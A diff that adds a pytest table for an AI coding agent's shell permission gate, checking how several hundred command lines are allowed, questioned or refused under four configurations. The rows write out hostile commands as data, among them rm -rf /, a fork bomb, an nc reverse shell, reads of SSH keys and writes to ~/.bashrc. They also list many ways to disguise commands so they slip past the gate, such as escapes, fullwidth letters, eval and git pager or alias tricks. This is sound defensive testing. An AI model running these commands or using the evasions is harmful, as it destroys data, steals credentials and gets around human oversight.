@@ -1,0 +1,468 @@
+"""The shell policy, row by row: one command line, the decision under four configurations.
+
+Columns (A allow, Q ask, B refused):
+
+* ``none``  — the defaults;
+* ``block`` — ``blocked_commands = ["nc", "sudo", "git push --force", "docker"]``;
+* ``git``   — ``[tools.permissions] bash = [allow "git *"]`` (anything else asks: the table has a rule);
+* ``star``  — ``[tools.permissions] bash = [allow "*"]``.
+
+The decision is the one the gate chain takes before anything runs (``Session.decide_call``), on a working
+directory with a few files, a home with credentials, and the OS sandbox on (so a write inside the working
+directory needs no question). Add a row for every bypass or false alarm found.
+"""
+
+from __future__ import annotations
+
+import shutil
+import tempfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from zeph_nb.config import Settings
+from zeph_nb.gates.call import GateCall
+from zeph_nb.gates.chain import Session
+from zeph_nb.safety import sandbox_status
+from zeph_nb.tools.base import ToolCall, validate_params
+from zeph_nb.tools.builtin import builtin_executor
+
+TOOLS = {tool.name: tool for tool in builtin_executor(Settings()).tool_definitions()}
+COLUMNS = {
+    "none": "",
+    "block": '[tools.shell]\nblocked_commands = ["nc", "sudo", "git push --force", "docker"]\n',
+    "git": '[tools.permissions]\nbash = [{pattern = "git *", action = "allow"}]\n',
+    "star": '[tools.permissions]\nbash = [{pattern = "*", action = "allow"}]\n',
+}
+
+ROWS: list[tuple[str, str]] = [
+    # -- false-alarm guards: blocked words as arguments, filenames, patterns, in quotes, as prefixes -------------
+    ("cat include/nc.h", "AAQA"),
+    ("ls src/inc", "AAQA"),
+    ("ncdu .", "AAQA"),
+    ("sudoku --help", "AAQA"),
+    ("grep -rn sudo src", "AAQA"),
+    ("grep nc include/x.h", "AAQA"),
+    ('echo "nc -l 4444"', "AAQA"),
+    ("echo 'sudo rm -rf /'", "AAQA"),
+    ("git log --grep=sudo", "AAAA"),
+    ('git commit -m "remove nc usage"', "AAAA"),
+    ("docker-compose --version", "AAQA"),
+    ("cat docker.md", "AAQA"),
+    ("ls -la ncdu_report/", "AAQA"),
+    ("python3 -c \"print('sudo')\"", "AAQA"),
+    ("echo $'sudo'", "AAQA"),
+    ("printf '%s\\n' nc sudo", "AAQA"),
+    ("grep -c 'git push --force' notes.txt", "AAQA"),
+    ("man sudo", "AAQA"),
+    ("which nc", "AAQA"),
+    ("apt-cache show netcat", "AAQA"),
+    ('echo "sudo" | grep sudo', "AAQA"),
+    ('cat "include/nc.h"', "AAQA"),
+    ("ls nc", "AAQA"),
+    ("touch sudo.txt", "AAQA"),
+    ("mkdir -p build/nc", "AAQA"),
+    ("git add include/nc.h", "AAAA"),
+    ("git show HEAD:include/nc.h", "AAAA"),
+    ("rg 'docker run' src", "AAQA"),
+    ("find . -name '*nc*'", "AAQA"),
+    ("echo ncat", "AAQA"),
+    ("sed -n '/sudo/p' notes.txt", "AAQA"),
+    ("awk '/nc/ {print $1}' data.csv", "AAQA"),
+    ("git log --oneline -- include/nc.h", "AAAA"),
+    ("git diff --stat", "AAAA"),
+    ('echo "git push --force is dangerous"', "AAQA"),
+    ("cat notes.txt | grep -v nc", "AAQA"),
+    ("tar tzf nc.tar.gz", "AAQA"),
+    ("head -n 5 sudoers.example", "AAQA"),
+    ("python3 -m pytest -k nc", "AAQA"),
+    ('grep -rn "kill -9 -1" src', "AAQA"),
+    ("echo 'rm -rf /'", "AAQA"),
+    ("grep -e sudo -e nc notes.txt", "AAQA"),
+    ("ls /usr/bin/nc*", "AAQA"),
+    ("basename /usr/bin/nc", "AAQA"),
+    ("test -x /usr/bin/sudo && echo yes", "AAQA"),
+    ("command -v sudo", "AAQA"),
+    ("type nc", "AAQA"),
+    ("cat include/x.h include/nc.h > combined.h", "AAQA"),
+    ('echo "confirm it"', "AAQA"),
+    ("echo farm animals", "AAQA"),
+    ("git rm --cached notes.txt", "AAAA"),
+    ("echo ok # sudo rm -rf /", "AAQA"),
+    # -- the blocklist matches command words, after every wrapper and spelling ----------------------------------
+    ("nc -l 4444", "QBQA"),  # nc reaches the network: asks unless a rule allows it
+    ("/usr/bin/nc example.org 80", "QBQA"),
+    ("env nc -l 1", "QBQA"),
+    ("timeout 5 nc x 1", "QBQA"),
+    ("nice -n 10 nc x 1", "QBQA"),
+    ("nohup nc x 1", "QBQA"),
+    ("stdbuf -oL nc x 1", "QBQA"),
+    ("xargs nc < hosts.txt", "QBQA"),
+    ("find . -exec nc x 1 \\;", "QBQA"),
+    ("sh -c 'nc x 1'", "QBQA"),
+    ('bash -c "nc -e /bin/sh x 1"', "QBQA"),
+    ("watch nc x 1", "QBQA"),
+    ("parallel nc ::: a b", "QBQA"),
+    ("command nc x 1", "QBQA"),
+    ("n\\c x 1", "QBQA"),
+    ("'n'c x 1", "QBQA"),
+    ('"nc" x 1', "QBQA"),
+    ("$'\\x6e\\x63' x 1", "QBQA"),
+    ("$'\\156\\143' x 1", "QBQA"),
+    ("{nc,x,1}", "QBQA"),
+    ("\uff4e\uff43 x 1", "QBQA"),  # fullwidth letters
+    ("sudo ls", "BBBB"),
+    ("sudo -u root ls", "BBBB"),
+    ("doas ls", "BBBB"),
+    ("/usr/bin/sudo ls", "BBBB"),
+    ("env sudo ls", "BBBB"),
+    ("s\\udo ls", "BBBB"),
+    ("$'\\x73udo' ls", "BBBB"),
+    ("echo ls | sudo sh", "BBBB"),
+    ("$(echo sudo) ls", "QQQQ"),  # cannot be seen: no rule covers a command name from an expansion
+    ('eval "sudo ls"', "BBBB"),
+    ("echo 'sudo ls' | bash", "BBBB"),
+    ("bash <<< 'sudo ls'", "BBBB"),
+    ("cat <<EOF | sh\nsudo ls\nEOF", "BBBB"),
+    ("python3 -c \"import os; os.system('sudo ls')\"", "BBBB"),
+    ("docker ps", "ABQA"),
+    ("git push --force origin main", "QBAA"),
+    ("git push origin main --force", "QBAA"),
+    ("git push -f origin main", "QQAA"),  # entries match flags as written: list -f too to block it
+    ("git -c x=y push --force", "QBQQ"),
+    ("git -C . push --force", "QBAA"),
+    # -- the unconditional blocklist --------------------------------------------------------------------------
+    ("rm -rf /", "BBBB"),
+    ("rm -rf ~", "BBBB"),
+    ("rm -rf ~/", "BBBB"),
+    ("rm -fr /*", "BBBB"),
+    ("rm -r -f /", "BBBB"),
+    ("rm --recursive --force /", "BBBB"),
+    ("rm -rf //", "BBBB"),
+    ("rm -rf /usr/../", "BBBB"),
+    ("find / -maxdepth 0 -exec rm -rf {} +", "BBBB"),
+    ("find ~ -maxdepth 0 -exec rm -rf {} \\;", "BBBB"),
+    ("parallel rm -rf {} ::: /", "BBBB"),
+    ("xargs rm -rf <<< /", "QQQA"),  # what xargs reads cannot be known; it asks
+    ("mkfs.ext4 /dev/sda1", "BBBB"),
+    ("dd if=/dev/zero of=/dev/sda", "BBBB"),
+    (":(){ :|:& };:", "BBBB"),
+    ("shutdown -h now", "BBBB"),
+    ("kill -9 -1", "BBBB"),
+    ("kill -- -1", "BBBB"),
+    ("kill -KILL -1", "BBBB"),
+    ("kill -s KILL -1", "BBBB"),
+    ("kill -TERM -1234", "BBBB"),
+    ("kill -9 -- -1234", "BBBB"),
+    ("kill 1234", "AAQA"),
+    ("kill -9 1234", "QQQA"),
+    ("kill -1 1234", "AAQA"),  # signal 1 (HUP) to one process
+    ("kill -l", "AAQA"),
+    ("pkill -f python", "QQQA"),
+    ("chmod -R 777 /", "BBBB"),
+    ("mv / /tmp/x", "BBBB"),
+    ("echo x > /dev/sda", "BBBB"),
+    ("r\\m -rf /", "BBBB"),
+    ("'rm' -rf /", "BBBB"),
+    ('"r"m -rf /', "BBBB"),
+    ("r\\\nm -rf /", "BBBB"),  # a line continuation inside the name
+    ("{rm,-rf,/}", "BBBB"),
+    ("command rm -rf /", "BBBB"),
+    ("builtin rm -rf /", "BBBB"),
+    ("\\rm -rf /", "BBBB"),
+    ("/bin/rm -rf /", "BBBB"),
+    ("env -i rm -rf /", "BBBB"),
+    ("sh -c 'rm -rf /'", "BBBB"),
+    ('bash -lc "rm -rf /"', "BBBB"),
+    ("$'\\x72\\x6d' -rf /", "BBBB"),
+    ("$'\\162\\155' -rf /", "BBBB"),
+    ("\uff52\uff4d -rf /", "BBBB"),
+    ("echo $((1+1)); rm -rf /", "BBBB"),
+    ('rm -rf "$HOME"', "BBBB"),
+    ("rm -rf ${HOME}", "BBBB"),
+    ("rm -rf ~/*", "BBBB"),
+    # -- variables: $VAR asks, unless harmless or set by the line itself -------------------------------------
+    ("echo $HOME", "QQQA"),
+    ("echo ${PATH}", "QQQA"),
+    ('echo "$USER"', "QQQA"),
+    ("echo '$HOME'", "AAQA"),
+    ("echo $PWD", "AAQA"),
+    ("echo $?", "AAQA"),
+    ('for f in *.txt; do wc -l "$f"; done', "AAQA"),
+    ("x=1; echo $x", "AAQA"),
+    ('read -r line < notes.txt; echo "$line"', "AAQA"),
+    ("echo ${#HOME}", "QQQA"),
+    ("cat $HOME/.ssh/id_rsa", "BBBB"),  # read as ~/.ssh/id_rsa: a credential
+    ("ls $TMPDIR", "QQQA"),
+    ("git log $REV", "QQQQ"),  # an argument from an expansion could become any option
+    ("X=-c; git $X core.pager=id log", "QQQQ"),
+    ('git log -- "$f"', "QQQQ"),
+    ("echo $RANDOM $LINENO", "AAQA"),
+    # -- git: what never rides along on allow "git *" --------------------------------------------------------
+    ("git status", "AAAA"),
+    ("git log --oneline -5", "AAAA"),
+    ("git diff HEAD~1", "AAAA"),
+    ("git -C . status", "AAAA"),
+    ("git -C src status", "AAAA"),
+    ("git -c alias.x='!id' x", "QQQQ"),
+    ("git -c core.fsmonitor=id status", "QQQQ"),
+    ("git -c core.editor=id commit", "QQQQ"),
+    ("git -c core.pager=id log", "QQQQ"),
+    ("git -ccore.pager=id log", "QQQQ"),
+    ("git --config-env=core.pager=EVIL log", "QQQQ"),
+    ("git --exec-path=/tmp/x status", "QQQQ"),
+    ("git --git-dir=/tmp/evil/.git status", "QQQQ"),
+    ("git --work-tree=/tmp/w checkout .", "QQQQ"),
+    ("git grep -Oid foo", "QQQQ"),
+    ("git grep -nOid foo", "QQQQ"),
+    ("git grep --open-files-in-pager=id foo", "QQQQ"),
+    ("git grep --open-files-in-pager foo", "QQQQ"),
+    ("git diff --output=out.patch", "QQQQ"),
+    ("git diff --outp=/tmp/o", "QQQQ"),  # git accepts abbreviated long options
+    ("git log --output /tmp/x", "QQQQ"),
+    ("git format-patch -o /tmp/p HEAD~1", "QQQQ"),
+    ("git archive -o out.tar HEAD", "QQQQ"),
+    ("git fetch --upload-pack='id' origin", "QQQQ"),
+    ("git clone -u id x y", "QQQQ"),
+    ("git clone --template=/tmp/t repo dir", "QQQQ"),
+    ("git config alias.st '!id'", "QQQQ"),
+    ("git config core.pager id", "QQQQ"),
+    ("git config set core.hooksPath /tmp/h", "QQQQ"),
+    ("git config --global core.editor vim", "QQQQ"),
+    ("git config user.name Agent", "AAAA"),
+    ("git config --get core.pager", "AAAA"),
+    ("git submodule foreach id", "QQQQ"),
+    ("git bisect run ./t.sh", "QQQQ"),
+    ("git rebase -x id HEAD~2", "QQQQ"),
+    ("git rebase --exec=id HEAD~2", "QQQQ"),
+    ("git difftool -x id", "QQQQ"),
+    ("git filter-branch --tree-filter id", "QQQQ"),
+    ("git credential fill", "QQQQ"),
+    ("GIT_EXTERNAL_DIFF=id git diff", "QQQQ"),
+    ("GIT_PAGER=id git log", "QQQQ"),
+    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log", "QQQQ"),
+    ("env GIT_SSH_COMMAND=id git fetch", "QQQQ"),
+    ("export GIT_PAGER=id; git log", "QQQQ"),
+    ("PATH=/tmp/evil:$PATH; git status", "QQQQ"),
+    ("declare -x GIT_EDITOR=id; git commit", "QQQQ"),
+    ("LD_PRELOAD=/tmp/x.so git status", "QQQQ"),
+    ("GIT_AUTHOR_NAME=x git commit -m y", "QQQQ"),  # GIT_* as a whole: a rule can name the variable
+    ("git -C . reset --hard", "QQAA"),  # destructive asks by default; the rule allows it
+    ("git -c color.ui=always log", "QQQQ"),
+    ("git --no-pager log", "AAAA"),
+    ("git log --format=%H", "AAAA"),
+    ("git -p log", "AAAA"),
+    ("git push", "QQAA"),  # network: asks unless a rule allows it
+    ("git clone https://github.com/x/y", "QQAA"),
+    ("FOO=1 git status", "AAAA"),
+    ("git add *", "QQQQ"),  # a leading glob could expand to a file named like an option
+    ("git add '*.py'", "AAAA"),
+    # -- redirections and path arguments ---------------------------------------------------------------------
+    ("ls -la", "AAQA"),
+    ("ls > listing.txt", "AAQA"),
+    ("ls > ~/.bashrc", "BBBB"),
+    ("ls >> ~/.profile", "BBBB"),
+    ("ls > ../outside.txt", "QQQQ"),
+    ("ls /etc", "QQQQ"),
+    ("ls ~", "QQQQ"),
+    ("ls /usr/lib", "AAQA"),
+    ("cat notes.txt", "AAQA"),
+    ("cat /etc/hosts", "QQQQ"),
+    ("cat ~/.ssh/id_rsa", "BBBB"),
+    ("cat .env", "AAQA"),  # deny_read is empty by default (see test_deny_read_applies_to_commands)
+    ("cat link_out/hosts", "QQQQ"),  # a link in the working directory that leads outside
+    ("cat < /etc/hosts", "QQQQ"),
+    ("cat notes.txt | tee copy.txt", "AAQA"),
+    ("cat notes.txt | tee /tmp/copy.txt", "AAQA"),
+    ("cat notes.txt | tee ~/copy.txt", "QQQQ"),
+    ("cat notes.txt > /dev/null", "AAQA"),
+    ("cat notes.txt 2>/dev/null", "AAQA"),
+    ("cat <<EOF > out.txt\nhi\nEOF", "AAQA"),
+    ("cat <<EOF > ~/.bashrc\nhi\nEOF", "BBBB"),
+    ("cat notes.txt &> ../log.txt", "QQQQ"),
+    ("cat notes.txt >| ../x", "QQQQ"),
+    ("cp notes.txt ~/Desktop/", "QQQQ"),
+    ("mv notes.txt ../", "QQQQ"),
+    ("cd .. && ls", "QQQQ"),
+    ("touch ~/.ssh/authorized_keys", "BBBB"),
+    ("echo x > zeph.toml", "BBBB"),  # zeph's own config
+    ("echo x > .git/hooks/pre-commit", "BBBB"),
+    ("tee -a ~/.bashrc < notes.txt", "BBBB"),
+    ("grep -rn TODO .", "AAQA"),
+    ("grep TODO /etc/passwd", "QQQQ"),
+    ("grep -r key ~/.aws", "BBBB"),
+    ("rg --pre id TODO", "QQQQ"),
+    ("rg --pre=id TODO", "QQQQ"),
+    ("rg -n TODO src", "AAQA"),
+    ("find . -name '*.py'", "AAQA"),
+    ("find . -delete", "QQQQ"),
+    ("find . -fprint /tmp/x", "QQQQ"),
+    ("find / -name passwd", "QQQQ"),
+    ("find . -exec cat {} \\;", "AAQA"),
+    ("sed -n 1p notes.txt", "AAQA"),
+    ("sed -i s/a/b/ notes.txt", "QQQQ"),
+    ("sed 's/a/b/e' notes.txt", "QQQQ"),
+    ("sed '1e id' notes.txt", "QQQQ"),
+    ("sed 's/x/y/w /tmp/out' notes.txt", "QQQQ"),
+    ("sed -e 's/a/b/' -e 's/c/d/' notes.txt", "AAQA"),
+    ("awk '{print $1}' data.csv", "AAQA"),
+    ("awk 'BEGIN{system(\"id\")}'", "QQQQ"),
+    ("awk '{print > \"/tmp/x\"}' data.csv", "QQQQ"),
+    ("awk -f prog.awk data.csv", "QQQQ"),
+    ("awk '{print | \"sh\"}' data.csv", "QQQQ"),
+    # -- the rest of the table: python, pip, npm, make, pytest, docker, kubectl --------------------------------
+    ("python3 script.py", "AAQA"),
+    ("python3 -c 'print(1)'", "AAQA"),
+    ("PYTHONPATH=/tmp/evil python3 -c 'import x'", "QQQQ"),
+    ("PYTHONSTARTUP=x python3", "QQQQ"),
+    ("python3 -i", "QQQQ"),
+    ("python3 -m http.server", "AAQA"),
+    ("pip list", "AAQA"),
+    ("pip install requests", "QQQA"),  # network and the kernel's environment: asks unless a rule allows it
+    ("pip install --target /tmp/x requests", "QQQQ"),
+    ("pip install -i https://evil.example/simple x", "QQQQ"),
+    ("pip config set global.index-url https://x", "QQQQ"),
+    ("pip download -d /tmp/d x", "QQQQ"),
+    ("npm test", "AAQA"),
+    ("npm exec cowsay", "QQQQ"),
+    ("npx cowsay", "QQQQ"),
+    ("npm install -g x", "QQQQ"),
+    ("npm config set registry https://x", "QQQQ"),
+    ("npm --script-shell=/tmp/sh run build", "QQQQ"),
+    ("make", "AAQA"),
+    ("make test", "AAQA"),
+    ("make SHELL=/tmp/evil", "QQQQ"),
+    ("make --eval='x: ; id'", "QQQQ"),
+    ("make -C ../other", "QQQQ"),
+    ("pytest -q", "AAQA"),
+    ("pytest -p evil_plugin", "QQQQ"),
+    ("pytest -p no:cacheprovider", "AAQA"),
+    ("pytest --basetemp=/tmp/bt", "QQQQ"),
+    ("pytest -o addopts=-pevil", "QQQQ"),
+    ("pytest --junitxml=report.xml", "QQQQ"),
+    ("docker run -v /:/host alpine", "QBQQ"),
+    ("docker run --privileged alpine", "QBQQ"),
+    ("docker -H tcp://x:2375 ps", "QBQQ"),
+    ("kubectl get pods", "AAQA"),
+    ("kubectl exec -it pod -- sh", "QQQQ"),
+    ("kubectl -n prod delete pod x", "QQQA"),
+    ("kubectl --kubeconfig /tmp/k get pods", "QQQQ"),
+    ("kubectl cp pod:/etc/passwd .", "QQQQ"),
+    # -- more evasions ---------------------------------------------------------------------------------------
+    ("alias ls='rm -rf ~'; ls", "BBBB"),
+    ("git() { id; }; git status", "AAQA"),  # the function's body is judged like any command
+    ("hash -p /tmp/evil git; git status", "QQQQ"),
+    ("enable -f /tmp/x.so evil", "QQQQ"),
+    ("trap 'rm -rf ~' EXIT", "BBBB"),
+    ("echo hi > >(sudo tee x)", "BBBB"),
+    ("cat <(sudo cat /etc/shadow)", "BBBB"),
+    ("echo `sudo id`", "BBBB"),
+    ("ls; $(echo rm) -rf /", "QQQQ"),
+    ("source ./setup.sh", "AAQA"),
+    (". ./setup.sh", "AAQA"),
+    ('eval "$CMD"', "QQQQ"),
+    ("ls | sh", "QQQA"),
+    ("echo $(date)", "QQQA"),
+    ("diff <(ls a) <(ls b)", "QQQA"),
+]
+
+
+@pytest.fixture(scope="module")
+def world() -> Iterator[Path]:
+    # Not under /tmp: a sandboxed command's /tmp is its own, so paths there count as inside.
+    base = Path(tempfile.mkdtemp(prefix="zeph-policy-table-", dir="/var/tmp"))
+    work = base / "work"
+    for name in ["include/nc.h", "include/x.h", "notes.txt", "data.csv", ".env", "setup.sh"]:
+        (work / name).parent.mkdir(parents=True, exist_ok=True)
+        (work / name).write_text("x\n")
+    (work / "src" / "inc").mkdir(parents=True)
+    (work / ".git" / "hooks").mkdir(parents=True)
+    (work / "link_out").symlink_to("/etc")
+    home = base / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_text("key\n")
+    (home / ".bashrc").write_text("\n")
+    yield base
+    shutil.rmtree(base, ignore_errors=True)
+
+
+@pytest.fixture
+def decide(world: Path, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
+    monkeypatch.setenv("HOME", str(world / "home"))
+    monkeypatch.setenv("ZEPH_HOME", str(world / "zeph"))
+    monkeypatch.chdir(world / "work")
+    sessions = {
+        column: Session(Settings.from_toml(toml), tools=TOOLS, workdir=world / "work", store=None,
+                        conversation_id="t")
+        for column, toml in COLUMNS.items()
+    }  # fmt: skip
+
+    def one(column: str, command: str) -> str:
+        session = sessions[column]
+        gc = GateCall(ToolCall("bash", {"command": command}))
+        gc.tool = TOOLS["bash"]
+        gc.args = validate_params(gc.tool, gc.call.params)
+        gc.analysis = session.classifier.analyze(command)
+        if gc.analysis.verdict == "block":
+            return "B"
+        gc.subjects = session.subjects(gc.tool, gc.call.params, gc.analysis)
+        decision = session.decide_call(gc.tool, gc, wants_confirmation=gc.analysis.verdict != "allow")
+        return {"allow": "A", "ask": "Q", "deny": "B"}[decision.action]
+
+    return one
+
+
+pytestmark = pytest.mark.skipif(
+    not sandbox_status(Settings()).active, reason="the table assumes the OS sandbox (bubblewrap) works here"
+)
+
+
+@pytest.mark.parametrize(("command", "expected"), ROWS, ids=[command for command, _ in ROWS])
+def test_row(decide, command: str, expected: str) -> None:  # type: ignore[no-untyped-def]
+    got = "".join(decide(column, command) for column in COLUMNS)
+    assert got == expected, f"{command!r}: got {got} (none, block, git, star), want {expected}"
+
+
+def test_the_table_is_large_and_has_no_duplicates() -> None:
+    commands = [command for command, _ in ROWS]
+    assert len(commands) >= 250 and len(set(commands)) == len(commands)
+
+
+def test_deny_read_applies_to_commands(world: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("HOME", str(world / "home"))
+    settings = Settings.from_toml('[tools.file]\ndeny_read = ["**/.env"]\n')
+    session = Session(settings, tools=TOOLS, workdir=world / "work", store=None, conversation_id="t")
+    gc = GateCall(ToolCall("bash", {"command": "cat .env"}))
+    gc.tool, gc.analysis = TOOLS["bash"], session.classifier.analyze("cat .env")
+    gc.args = validate_params(gc.tool, gc.call.params)
+    gc.subjects = session.subjects(gc.tool, gc.call.params, gc.analysis)
+    decision = session.decide_call(gc.tool, gc, wants_confirmation=False)
+    assert decision.action == "deny" and "deny_read" in decision.reason
+
+
+def test_strict_paths_refuses_instead_of_asking(world: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("HOME", str(world / "home"))
+    settings = Settings.from_toml("[tools.shell]\nstrict_paths = true\n")
+    session = Session(settings, tools=TOOLS, workdir=world / "work", store=None, conversation_id="t")
+    gc = GateCall(ToolCall("bash", {"command": "cat /etc/hosts"}))
+    gc.tool, gc.analysis = TOOLS["bash"], session.classifier.analyze("cat /etc/hosts")
+    gc.args = validate_params(gc.tool, gc.call.params)
+    gc.subjects = session.subjects(gc.tool, gc.call.params, gc.analysis)
+    decision = session.decide_call(gc.tool, gc, wants_confirmation=False)
+    assert decision.action == "deny" and "strict_paths" in decision.reason and "/etc/hosts" in decision.reason
+
+
+def test_a_rule_that_spells_the_option_out_covers_it(world: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("HOME", str(world / "home"))
+    toml = '[tools.permissions]\nbash = [{pattern = "git -c color.ui=* *", action = "allow"}, ' \
+           '{pattern = "git *", action = "allow"}]\n'  # fmt: skip
+    session = Session(Settings.from_toml(toml), tools=TOOLS, workdir=world / "work", store=None, conversation_id="t")
+    for command, action in [("git -c color.ui=always log", "allow"), ("git -c core.pager=id log", "ask")]:
+        gc = GateCall(ToolCall("bash", {"command": command}))
+        gc.tool, gc.analysis = TOOLS["bash"], session.classifier.analyze(command)
+        gc.args = validate_params(gc.tool, gc.call.params)
+        gc.subjects = session.subjects(gc.tool, gc.call.params, gc.analysis)
+        decision = session.decide_call(gc.tool, gc, wants_confirmation=True)
+        assert decision.action == action, (command, decision)
+    assert "does not cover -c core.pager=id" in decision.reason
